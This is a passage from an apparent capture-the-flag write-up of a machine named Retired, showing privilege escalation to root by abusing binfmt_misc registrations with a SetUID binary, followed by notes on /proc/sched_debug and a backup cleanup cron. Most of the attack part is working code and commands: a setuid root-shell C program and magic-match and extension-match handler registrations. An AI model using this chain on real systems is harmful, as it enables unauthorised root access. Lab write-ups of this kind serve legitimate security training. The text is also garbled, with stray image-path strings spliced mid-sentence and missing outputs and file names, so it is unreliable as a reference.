  • an interpreter that gives a shell• a rule that matches on a SetUID binary and calls my interpreter, with the C flag


I’ll create a simple C program that creates a Bash shell as root:

#define _GNU_SOURCE
#include <stdlib.h>
#include <unistd.h>

int main(void) {
    char *const paramList[10] = {"/bin/bash", "-p", NULL};
    const int id = 0;
    setresuid(id, id, id);
    execve(paramList[0], paramList, NULL);
    return 0;There are lots of variations on this that work, but this one will work in the most cases, as I discussed in a longer breakdown.

I’ll compile that on Retired:

dev@retired:/dev/shm$ gcc -o 0xdf 0xdf.c

Shell via Magic Match

I’ll show two ways to get a matching signature. The first (as shown in the SentinelOne post) is what’s in the blog post, using magic to match the initial bytes of the target file.

I need any SetUID binary:

dev@retired:/dev/shm$ find / -perm -4000 2>/dev/null

newgrp seems reasonable.

I’ll create that pattern using xxd, head, and sed:

dev@retired:/dev/shm$ cat /usr/bin/newgrp | xxd -p | head -1 | sed 's/\(..\)/\\x\1/g'

The registration still now gets passed to /usr/lib/emuemu/reg_helper:

dev@retired:/dev/shm$ echo':0xdf:M::\x7f\x45\x4c\x46\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00\x01\x00\x00\x00\xd0\x47\x00\x00\x00\x00::/dev/shm/0xdf:C' | /usr/lib/emuemu/reg_helper

That breaks down to:

  • name - 0xdf (arbitrary)
  • using magic bytes
  • no offset
  • signature that matches the first 30 bytes of newgrp
  • no mask
  • interpreter of /dev/shm/0xdf
  • C flag

It works:

dev@retired:/dev/shm$ cat /proc/sys/fs/binfmt_misc/0xdf
interpreter /dev/shm/0xdfflags: OC
offset 0
magic 7f454c4602010100000000000000000003003e0001000000d04700000000

Now running newgrp returns a root shell:

dev@retired:/dev/shm$ newgrp

That’s because the start of newgrp matches the magic signature for the 0xdf rule. So binfmt_misc calls /dev/shm/0xdf newgrp, and does it as root because newgrp is SetUID and the rule has the C flag. /dev/shm/0xdf doesn’t care about newgrep, but rather just calls Bash, returning a shell.

I can grab root.txt:

root@retired:/root# cat root.txt

I can clean up that registration by sending -1 into that file:

root@retired:/dev/shm# echo -1 > /proc/sys/fs/binfmt_misc/0xdf
root@retired:/dev/shm# ls /proc/sys/fs/binfmt_misc/
EMUEMU  register  status

Shell via Extension MatchInstead of a binary match, I can do an extension match, because of how binfmt_misc handles symlinks.

I’ll create a link to any SetUID binary (I’ll use newgrp again):

dev@retired:/dev/shm$ ln -vs /usr/bin/newgrp 0xdf.sploit
'0xdf.sploit' -> '/usr/bin/newgrp'

Now I’ll register the .sploit (again, could be anything, as long as it matches the symlink) extension to my handler:

dev@retired:/dev/shm$ echo ':sploit:E::sploit::/dev/shm/0xdf:C' | /usr/lib/emuemu/reg_helper

That breaks down to:

  • name - sploit (arbitrary)
  • using extension
  • no offset (ignored for extension)
  • extension of .sploit
  • no mask (ignore for extension)
  • interpreter of /dev/shm/0xdf
  • C flag

That generates the mapping:

dev@retired:/dev/shm$ cat /proc/sys/fs/binfmt_misc/sploitinterpreter /dev/shm/0xdf
flags: OC
extension .sploit

Now running ./0xdf.sploit will be caught by binfmt_misc, call the /dev/shm/0xdf handler with the permissions of newgrp, returning a root shell:

dev@retired:/dev/shm$ ./0xdf.sploit

Beyond Root


I spent a bit of time trying to figure out why the /proc/sched_debug file is present on Retired and not on my local Ubuntu Mate VM or Ubuntu host. I am not exactly sure that I figured it out, but would love feedback if you know.

This StackOverflow post is what first alerted me to the /proc/sched_debug file, but when it wasn’t on any of my local systems, I went a different direction. Still, it is on Retired.

There’s not a ton of documentation about this file, but it seems to be generated based on the kernel being compiled with CONFIG_SCHED_DEBUG=y option (according to

The kernel typically installs a /boot/config-$version file, and the one on Retired does have the option:

dev@retired:/$ uname -a
Linux retired5.10.0-11-amd64 #1 SMP Debian 5.10.92-2 (2022-02-28) x86_64 GNU/Linux
dev@retired:/$ cat /boot/config-5.10.0-11-amd64  | grep CONFIG_SCHED_DEBUG
dev@retired:/$ ls -l /proc/sched_debug
-r--r--r-- 1 root root 0 Jul  1 21:25 /proc/sched_debug

But, strangely, my VM also has it set:

oxdf@hacky$ uname -a
Linux hacky 5.15.0-41-generic #44~20.04.1-Ubuntu SMP Fri Jun 24 13:27:29 UTC 2022 x86_64 x86_64 x86_64 GNU/Linux
oxdf@hacky$ cat /boot/config-5.15.0-41-generic | grep CONFIG_SCHED_DEBUG
oxdf@hacky$ ls -l /proc/sched_debug
ls: cannot access '/proc/sched_debug': No such file or directoryI can’t really explain this, but if you can, hit me up on Twitter or Discord.


Diving into the Script

The webbackup script has this loop at the end that seems to imply that it would keep up to 11 backups. And yet, I never see more than three or four backups:

dev@retired:/var/www$ ls  html  license.sqlite

I spent too much time trying to understand what I wasn’t seeing in the script. One useful trick was to add an echo "$backup:$KEEP" to the loop just before it decrements $KEEP to watch it work, and to add -q to zip to keep a ton of garbage from printing.

set -euf -o pipefail

cd /var/www/

DST="/var/www/$(date +%Y-%m-%d_%H-%M-%S)"

/usr/bin/rm --force -- "$DST"
/usr/bin/zip -q --recurse-paths "$DST" "$SRC"/usr/bin/find /var/www/ -maxdepth 1 -name '*.zip' -print0 \
    | sort --zero-terminated --numeric-sort --reverse \
    | while IFS= read -r -d '' backup; do
        if [ "$KEEP" -le 0 ]; then
            /usr/bin/rm --force -- "$backup"
        echo "$backup:$KEEP"

l’ll run it without waiting for the cron, and I am able to make more:

root@retired:/var/www# webbackup
root@retired:/var/www# webbackup
root@retired:/var/www# webbackup

I canget to 11 as well:

root@retired:/var/www# webbackup

But not more ( was deleted):

root@retired:/var/www# webbackup

A few minutes later, it was back to three:

root@retired:/var/www# ls  html  license.sqlite


Turns out there’s a cleanup script running as root on a cron:

root@retired:/var/www# crontab -l# m h  dom mon dow   command
* * * * * sleep 15; /root/

It waits til 15 seconds after the minute, and runs /root/

/usr/bin/find /var/www/html/ -type l -exec rm -r {} \;
/usr/bin/find /var/www/ -mmin +3 -type f -name "20*" -exec rm {} \;

This script uses two find commands to cleanup. First, it finds any link files (-type l), and uses the -exec option to removethem.

The second command finds all files (-type f) older than three minutes (-mmin +3) and removes them using -exec as well.

This explainswhy I see four fileswhen the script first runs, then three 15 secondslater when the cleanup runs.